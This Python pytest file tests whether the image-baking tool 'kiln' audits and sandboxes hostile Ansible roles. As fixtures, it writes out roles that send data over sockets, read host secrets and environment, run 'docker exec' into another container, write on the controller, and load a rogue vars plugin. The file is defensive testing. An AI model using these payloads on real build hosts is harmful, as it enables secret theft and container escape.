"""Hostile roles, each baked for real: the audit refuses them, and the sandbox stops them anyway.

Every case is baked twice. As written, the audit refuses it before any builder starts (or it fails
inside the sandbox). Then with every audit rule excepted for its task, so that only the sandbox
stands between the role and the bake host: each one then fails inside the sandbox. Afterwards the
TCP and unix listeners the test started outside have received nothing, the outside file's and the
environment's markers are in no log and no image, the second container on the engine is
unchanged, nothing was written into the project, and no builder is left.
"""

from __future__ import annotations

import socket
import subprocess
import tempfile
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import Sandbox, clone_sandbox
from kiln.guard import Rule
from test_parallel_bakes import summary_rows

pytestmark = pytest.mark.integration

#: Ansible role name -> (its task's name, its tasks/main.yml). {outside}, {port}, {socket} and
#: {second} are filled in per run.
CASES: dict[str, tuple[str, str]] = {
    "pipe_tcp": (
        "Phone home over TCP",
        """\
- name: Phone home over TCP
  ansible.builtin.debug:
    msg: "{{{{ lookup('pipe', 'python3 ' ~ role_path ~ '/files/phone.py tcp {port}') }}}}"
""",
    ),
    "pipe_unix": (
        "Phone home over a unix socket",
        """\
- name: Phone home over a unix socket
  ansible.builtin.debug:
    msg: "{{{{ lookup('pipe', 'python3 ' ~ role_path ~ '/files/phone.py unix {socket}') }}}}"
""",
    ),
    "file_lookup": (
        "Read a file of the bake host",
        """\
- name: Read a file of the bake host
  ansible.builtin.copy:
    content: "{{{{ lookup('file', '{outside}/host-secret.txt') }}}}"
    dest: /etc/hostile-file
    mode: "0644"
""",
    ),
    "env_lookup": (
        "Read kiln's environment",
        """\
- name: Read kiln's environment
  ansible.builtin.assert:
    that: lookup('env', 'KILN_HOSTILE_MARK') | length > 0
    fail_msg: the sandbox's environment has no KILN_HOSTILE_MARK
""",
    ),
    "copy_src": (
        "Copy a file of the bake host",
        """\
- name: Copy a file of the bake host
  ansible.builtin.copy:
    src: {outside}/host-secret.txt
    dest: /etc/hostile-copy
    mode: "0644"
""",
    ),
    "delegate": (
        "Write into the second container",
        """\
- name: Write into the second container
  ansible.builtin.file:
    path: /pwned
    state: touch
    mode: "0644"
  delegate_to: {second}
""",
    ),
    "engine_escape": (
        "Reach the second container through the engine",
        """\
- name: Reach the second container through the engine
  ansible.builtin.debug:
    msg: "{{{{ lookup('pipe', 'docker exec {second} touch /pwned && echo done') }}}}"
""",
    ),
    "local_write": (
        "Write on the controller",
        """\
- name: Write on the controller
  ansible.builtin.copy:
    content: "written by a hostile role\\n"
    dest: "{{{{ playbook_dir }}}}/../hostile-local-write"
    mode: "0644"
  connection: local
""",
    ),
    "outside_role": (
        "Include a role from outside",
        """\
- name: Include a role from outside
  ansible.builtin.include_role:
    name: "{{{{ hostile_outside_role }}}}"
""",
    ),
}
#: What the pipe lookups run on the controller: connect to the listener outside and send "leak".
PHONE = """\
import socket
import sys

kind, where = sys.argv[1], sys.argv[2]
if kind == "tcp":
    conn = socket.create_connection(("127.0.0.1", int(where)), timeout=3)
else:
    conn = socket.socket(socket.AF_UNIX)
    conn.connect(where)
conn.sendall(b"leak")
print("sent")
"""
OUTSIDE_ROLE_TASKS = """\
- name: Leave a mark of the outside role
  ansible.builtin.copy:
    content: "the outside role ran\\n"
    dest: /etc/hostile-outside-role
    mode: "0644"
"""
#: A vars plugin an ansible.cfg in the project enables: it would leave a mark on the host.
VARS_PLUGIN = """\
from ansible.plugins.vars import BaseVarsPlugin


class VarsModule(BaseVarsPlugin):
    REQUIRES_ENABLED = True

    def get_vars(self, loader, path, entities, cache=True):
        with open({mark!r}, "a") as handle:
            handle.write("loaded")
        return {{}}
"""
CALM_TASKS = """\
- name: Write a calm file
  ansible.builtin.copy:
    content: "calm\\n"
    dest: /etc/calm
    mode: "0644"
"""


class Listener:
    """A socket server outside the sandbox that records every connection it gets."""

    def __init__(self, server: socket.socket) -> None:
        self.server = server
        self.received: list[bytes] = []
        server.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.server.close()


@dataclass
class Hostile:
    box: Sandbox
    outside: Path
    tcp: Listener
    unix: Listener
    second: str
    secret_text: str
    env_mark: str
    plugin_mark: Path
    as_written: dict[str, dict[str, object]] = field(default_factory=dict)
    excepted: dict[str, dict[str, object]] = field(default_factory=dict)
    outputs: list[str] = field(default_factory=list)


def _roles_py(names: list[str], outside: Path) -> str:
    lines = ["from kiln import TaskException"]
    for name in names:
        task = CASES[name][0]
        variables = {"hostile_outside_role": str(outside / "roles" / "outsider")}
        exceptions = ", ".join(
            f"TaskException(ansible_role={name!r}, task={task!r}, rule={rule.value!r}, "
            "reason='the test takes the audit away: only the sandbox stands')"
            for rule in Rule
            if rule.exceptable
        )
        for suffix, extra in (("", ""), ("-x", f", audit_exceptions=[{exceptions}]")):
            lines.append(
                f"project.role({(name.replace('_', '-') + suffix)!r}, parent='base', "
                f"ansible_roles=[{name!r}], variables={variables!r}, lint_allowed=True{extra})"
            )
    lines.append("project.role('calm', parent='base', ansible_roles=['calm'])")
    return "\n".join(lines) + "\n"


def _write_roles(box: Sandbox, fill: dict[str, str]) -> None:
    for name, (_task, tasks) in CASES.items():
        (box.root / "roles" / name / "tasks").mkdir(parents=True)
        (box.root / "roles" / name / "tasks" / "main.yml").write_text(tasks.format(**fill))
        (box.root / "roles" / name / "files").mkdir()
        (box.root / "roles" / name / "files" / "phone.py").write_text(PHONE)
    (box.root / "roles" / "calm" / "tasks").mkdir(parents=True)
    (box.root / "roles" / "calm" / "tasks" / "main.yml").write_text(CALM_TASKS)


def _outside_files(outside: Path, secret_text: str, plugin_mark: Path, box: Sandbox) -> None:
    (outside / "host-secret.txt").write_text(secret_text + "\n")
    (outside / "roles" / "outsider" / "tasks").mkdir(parents=True)
    (outside / "roles" / "outsider" / "tasks" / "main.yml").write_text(OUTSIDE_ROLE_TASKS)
    plugins = box.root / "vars_plugins"
    plugins.mkdir()
    (plugins / "hostile_vars.py").write_text(VARS_PLUGIN.format(mark=str(plugin_mark)))
    (box.root / "ansible.cfg").write_text(
        "[defaults]\nvars_plugins = ./vars_plugins\n"
        "vars_plugins_enabled = ansible.builtin.host_group_vars,hostile_vars\n"
    )


@pytest.fixture(scope="module")
def hostile(baked_sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    box = clone_sandbox(baked_sandbox, tmp_path_factory.mktemp("hostile"))
    outside = Path(tempfile.mkdtemp(prefix="kiln-hostile-"))  # outside the project, short path
    tcp = Listener(socket.create_server(("127.0.0.1", 0)))
    unix_server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix_server.bind(str(outside / "listener.sock"))
    unix_server.listen(4)
    unix = Listener(unix_server)
    second = f"kiln-hostile-second-{uuid.uuid4().hex[:8]}"
    base = box.image("base", 1)  # any image of the engine; the sandbox's own is at hand
    box.docker("run", "-d", "--name", second, "--entrypoint", "sleep", base, "infinity")
    state = Hostile(
        box,
        outside,
        tcp,
        unix,
        second,
        secret_text=f"host-secret-{uuid.uuid4().hex}",
        env_mark=f"env-mark-{uuid.uuid4().hex}",
        plugin_mark=outside / "vars-plugin-ran",
    )
    try:
        _outside_files(outside, state.secret_text, state.plugin_mark, box)
        fill = {
            "outside": str(outside),
            "port": str(tcp.server.getsockname()[1]),
            "socket": str(outside / "listener.sock"),
            "second": second,
        }
        _write_roles(box, fill)
        box.write_tasks(extra=_roles_py(list(CASES), outside))
        env = {"KILN_HOSTILE_MARK": state.env_mark}
        for suffix, into in (("", state.as_written), ("-x", state.excepted)):
            roles = [name.replace("_", "-") + suffix for name in CASES]
            if suffix:
                roles.append("calm")
            proc = box.invoke("bake", ",".join(roles), "-p", "2", "--skip-tests", "--json", env=env)
            state.outputs.append(proc.stdout + proc.stderr)
            into.update(summary_rows(proc))
        yield state
    finally:
        tcp.close()
        unix.close()
        subprocess.run(["docker", "rm", "-f", second], capture_output=True, check=False)
        box.cleanup()
        subprocess.run(["rm", "-rf", str(outside)], check=False)


def _log_texts(box: Sandbox) -> str:
    texts = []
    for top in (box.root / ".kiln", box.root / "packer"):
        for path in top.rglob("*"):
            if path.is_file() and not path.is_symlink():
                texts.append(path.read_bytes().decode("utf-8", errors="replace"))
    return "\n".join(texts)


def test_as_written_every_hostile_role_is_refused_or_fails(hostile: Hostile) -> None:
    states = {role: row["state"] for role, row in hostile.as_written.items() if role != "base"}
    assert states == {name.replace("_", "-"): "failed" for name in CASES}


def test_without_the_audit_every_hostile_role_fails_inside_the_sandbox(hostile: Hostile) -> None:
    rows = {role: row for role, row in hostile.excepted.items() if role.endswith("-x")}
    # delegate_to the second container: kiln's extra vars pin ansible_host to the builder, so the
    # delegated task lands on the builder (checked below: the second container is unchanged).
    delegated = rows.pop("delegate-x")
    assert delegated["state"] in ("failed", "baked"), delegated
    assert {role: row["state"] for role, row in rows.items()} == {
        name.replace("_", "-") + "-x": "failed" for name in CASES if name != "delegate"
    }
    for role, row in rows.items():
        # A failed Ansible task, not a refusal: the builder was started and the play ran.
        assert "audit" not in str(row["error"]).lower(), (role, row["error"])
    assert hostile.excepted["calm"]["state"] == "baked"  # the sandbox lets honest roles bake


def test_the_listeners_outside_received_nothing(hostile: Hostile) -> None:
    assert hostile.tcp.received == []
    assert hostile.unix.received == []


def test_the_outside_file_and_kilns_environment_are_in_no_log_and_no_image(
    hostile: Hostile,
) -> None:
    logs = _log_texts(hostile.box)
    assert hostile.box.root.joinpath(".kiln", "logs").is_dir()  # the logs searched exist
    for mark in (hostile.secret_text, hostile.env_mark):
        assert mark not in logs
    images = hostile.box.docker(
        "images",
        "--format",
        "{{.Repository}}:{{.Tag}}",
        f"--filter=reference={hostile.box.namespace}/*/*",
    ).split()
    assert images  # calm and base were baked: their filesystems are searched
    for image in images:
        container = hostile.box.docker("create", image, "true")
        try:
            exported = subprocess.run(
                ["docker", "export", container], capture_output=True, check=True
            ).stdout
        finally:
            hostile.box.docker("rm", container)
        for mark in (hostile.secret_text, hostile.env_mark):
            assert mark.encode() not in exported, image


def test_the_second_container_is_unchanged(hostile: Hostile) -> None:
    changes = hostile.box.docker("diff", hostile.second)
    assert "/pwned" not in changes
    assert changes == ""


def test_nothing_was_written_into_the_project_or_left_running(hostile: Hostile) -> None:
    assert not (hostile.box.root / "hostile-local-write").exists()
    running = hostile.box.docker("ps", "--format", "{{.Names}} {{.Image}}").splitlines()
    builders = [
        line
        for line in running
        if hostile.box.namespace in line.split()[1] and line.split()[0] != hostile.second
    ]
    assert builders == []


def test_the_projects_ansible_cfg_is_never_read_and_is_named_once(hostile: Hostile) -> None:
    assert not hostile.plugin_mark.exists()  # the vars plugin it enables never loaded
    warnings = [
        line
        for line in "\n".join(hostile.outputs).splitlines()
        if "ansible.cfg in the project is not read" in line
    ]
    assert warnings and "defaults.vars_plugins" in warnings[0]
    assert len(warnings) == len(hostile.outputs)  # once per run, not once per role
